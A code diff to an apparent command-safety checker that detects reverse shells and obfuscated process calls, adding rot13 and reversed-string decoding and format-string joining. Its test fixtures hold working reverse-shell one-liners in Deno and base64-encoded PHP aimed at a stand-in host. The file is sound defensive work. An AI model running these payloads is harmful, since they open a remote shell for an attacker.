@@ -17,7 +17,11 @@ export const codeRules = {
 				`deno run -A - <<< 'const c=await Deno.connect({hostname:"1.2.3.4",port:4444});new Deno.Command("/bin/sh",{stdin:"piped"}).spawn()'`,
 				`php -r 'eval(base64_decode("JHM9ZnNvY2tvcGVuKCIxLjIuMy40Iiw0NDQ0KTtwcm9jX29wZW4oIi9iaW4vc2ggLWkiLFskcywkcywkc10sJHApOw=="));'`,
 			],
-			pass: ["python3 -c 'import socket; print(socket.gethostname())'", `node -e 'console.log(require("net").isIP("1.2.3.4"))'`],
+			pass: [
+				"python3 -c 'import socket; print(socket.gethostname())'",
+				`node -e 'require("net").createServer(s => s.pipe(s)).listen(7000)'`,
+				`node -e 'console.log(require("net").isIP("1.2.3.4"))'`,
+			],
 		},
 		"code-run-downloaded": {
 			verdict: "deny",
@@ -101,10 +105,7 @@ export const codeRules = {
 const MAX_CODE = 65_536;
 const MAX_LITERALS = 256;
 
-/** Names after which a language runs a program. */
-const RUNS =
-	/\b(system|exec[lv]?[pe]{0,2}|spawn[lv]?[pe]{0,2}|popen[234]?|posix_spawnp?|check_output|check_call|getoutput|getstatusoutput|subprocess|Popen|os\.startfile|pty|shell_exec|passthru|proc_open|pcntl_exec|child_process|execSync|execFile|execFileSync|spawnSync|fork|execute|Runtime|ProcessBuilder|ProcessImpl|IO\.popen|io\.popen|Open3|Kernel|PTY|syscall|do shell script|shell-command|call-process|start-process|make-process|term|ansi-term|startProcess|Deno|Bun|Command|forkpty|ffi|ctypes|os\.execute|uv\.spawn|run-shell-command|sh:run|os:cmd|open_port|open|system2|shell|Process|primitive-fork|execle|runInteractiveCommand|callCommand|rawSystem|sys\.process)\b|%x[^A-Za-z0-9\s]|`[^`]{1,4096}`|\bsh\s*->|\|\s*getline|\|&|\|\s*"/;
-/** The same, sure to be a call; `open`, `Process` and the like stand in every second text. */
+/** Calls that run a program, whatever the language. */
 const RUNS_SURELY =
 	/\b(system|system2|exec[lv][pe]{0,2}|spawn[lv]?[pe]{0,2}|popen[234]?|posix_spawnp?|check_output|check_call|getoutput|getstatusoutput|Popen|shell_exec|passthru|proc_open|pcntl_exec|execSync|execFile|execFileSync|spawnSync|callCommand|callProcess|rawSystem|shell-command(-to-string)?|call-process|start-process|make-process|forkpty|run-shell-command|startProcess|os:cmd)\b\s{0,8}[(\s"'`[]|\bexec\s{0,4}[("'`\s]|\bsubprocess\b|\bimport\s{1,4}(os|pty|commands|popen2)\s{1,4}as\b|\bfrom\s{1,4}(os|pty|commands)\s{1,4}import\b|\bProcess\s{0,2}(\.|::)\s{0,2}(new|run|start|spawn|exec)|\besyscmd\b|\bpty\s{0,4}\.\s{0,4}spawn|\bchild_process\b|getRuntime|\bProcessBuilder\b|\bos\.execute\b|\bio\.popen\b|\bIO\.popen\b|\bKernel\.|\bOpen3\b|\bsyscall\b|\bDeno\.(run|Command)|\bBun\.(spawn|\$)|exec\.Command|\bprocess\.binding\b|\bSystem\.(cmd|shell|process)\b|\bSys\.command\b|\bUnix\.(system|execvp?e?|open_process\w{0,8})\b|\bCommand::new\b|:os\.cmd\b|\bexec(Cmd(Ex)?|Process|ShellCmd)\s{0,2}\(|%x[^A-Za-z0-9\s]|\bansi-term\b|\(term\b|\bos\.startfile\b|\bopen\s{0,4}\(?[^;]{0,80}["']\s{0,4}\||\|\s{0,4}["'][^"']{0,200}["']\s{0,4}\)|\|\s{0,4}getline|\|&|\bforeign import\b|\bctypes\b|\.execute\(\s{0,4}\)|\bdl\.|\bloadlib\b|primitive-fork/;
 const TALKS =
@@ -144,7 +145,10 @@ export function judgeCode(call: Call, language: string, source: string): void {
 	const hidden =
 		literals.some((literal) =>
 			/^(system|popen|exec[lv]?[pe]{0,2}|subprocess|child_process|os|pty|shell_exec|passthru)$/.test(literal.text),
-		) && /\b(getattr|__import__|import_module|require|send|call_user_func|globals|builtins|\$\w{1,16}\s{0,2}\()/.test(text);
+		) &&
+		/["']\s{0,2}\)\s{0,2}\(|\b(getattr|__import__|import_module|require|send|call_user_func|globals|builtins|\$\w{1,16}\s{0,2}\()/.test(
+			text,
+		);
 	if (/\b(send|public_send|__send__|method)\s{0,2}\(?\s{0,2}:(system|exec|spawn|popen|eval|instance_eval)\b/.test(text))
 		call.hit(codeRules["code-unresolved"]);
 	if (/\bkill\w{0,4}\s{0,4}\(?\s{0,4}["']?\w{0,8}["']?,?\s{0,4}-1\b/.test(text)) call.hit(codeRules["code-kills"]);
@@ -178,7 +182,7 @@ export function judgeCode(call: Call, language: string, source: string): void {
 		call.hit(codeRules["code-shell"]);
 	if (/^(pwsh|powershell)$/.test(language) && TALKS.test(text) && /\b(iex|invoke-expression)\b/i.test(text))
 		call.hit(codeRules["code-reverse-shell"]);
-	if (TALKS.test(text) && (runs || /\brun\(/.test(text) || /\bdup2\b|fdopen|STDIN|>&S|\.pipe\(|\bgetline\b|\bfork\b/.test(text)))
+	if (TALKS.test(text) && (runs || /\brun\(/.test(text) || /\bdup2\b|fdopen|STDIN|>&S|\bgetline\b|\bfork\b/.test(text)))
 		call.hit(codeRules["code-reverse-shell"]);
 	const evaluates = EVALUATES.test(text);
 	if (evaluates && FETCHES.test(text)) call.hit(codeRules["code-run-downloaded"]);
@@ -414,6 +418,23 @@ function literalsOf(text: string, language: string): Literal[] {
 	return joinedLiterals(text, found);
 }
 
+/** A string as it is after what its text says is done with it: read backwards, or moved by thirteen letters. */
+function turned(text: string, literal: Literal): Literal {
+	const before = text.slice(Math.max(0, literal.start - 16), literal.start);
+	const after = text.slice(literal.end, literal.end + 32);
+	if (/^\s{0,2}(\[::-1\]|\.reverse\b|\.split\(["']{2}\)\.reverse)/.test(after) || /\b(strrev|reverse)\s{0,2}\(?\s{0,2}$/.test(before))
+		return { ...literal, text: [...literal.text].reverse().join("") };
+	if (/rot_?13/.test(after) || /rot_?13\(\s{0,2}$/.test(before))
+		return {
+			...literal,
+			text: literal.text.replace(/[a-z]/gi, (letter) => {
+				const base = letter <= "Z" ? 65 : 97;
+				return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base);
+			}),
+		};
+	return literal;
+}
+
 /** `join("/etc", "shadow")`, `Path("/etc") / "shadow"`, `Path.home()/".ssh"/"id_rsa"`. */
 function isPathJoin(text: string, last: Literal, next: Literal): boolean {
 	const between = text.slice(last.end, next.start);
@@ -426,8 +447,27 @@ function isPathJoin(text: string, last: Literal, next: Literal): boolean {
 /** `"r" + "m"`, `"r" . "m"`, `"r" "m"` are one string. */
 function joinedLiterals(text: string, literals: readonly Literal[]): Literal[] {
 	const joined: Literal[] = [];
-	for (const literal of literals) {
+	/** What the last one does with those that follow it in a list: `"%s/%s" % (...)`, `" ".join([...])`. */
+	let takes: "%s" | "{}" | { glue: string; first: boolean } | undefined;
+	for (const given of literals) {
+		const literal = turned(text, given);
 		const last = joined.at(-1);
+		const between = last ? text.slice(last.end, Math.min(literal.start, last.end + 32)) : "";
+		if (/^\s{0,2}%\s{0,2}\(?\s{0,2}$/.test(between)) takes = "%s";
+		else if (/^\s{0,2}\.format\(\s{0,2}$/.test(between)) takes = "{}";
+		else if (last && /^\s{0,2}\.join\(\s{0,2}[[(]\s{0,2}$/.test(between)) takes = { glue: last.text, first: true };
+		else if (!/^\s{0,4},\s{0,4}$/.test(between)) takes = undefined;
+		if (last && takes !== undefined && (typeof takes !== "string" || last.text.includes(takes))) {
+			const whole: string =
+				typeof takes === "string"
+					? last.text.replace(takes, () => literal.text)
+					: takes.first
+						? literal.text
+						: last.text + takes.glue + literal.text;
+			if (typeof takes !== "string") takes.first = false;
+			joined[joined.length - 1] = { text: whole, start: last.start, end: literal.end, code: last.code };
+			continue;
+		}
 		if (last && literal.start - last.end <= 8 && /^\s{0,4}[+.]{1,2}\s{0,4}$/.test(text.slice(last.end, literal.start))) {
 			joined[joined.length - 1] = { text: last.text + literal.text, start: last.start, end: literal.end, code: last.code };
 		} else if (last && literal.start - last.end <= 8 && isPathJoin(text, last, literal)) {
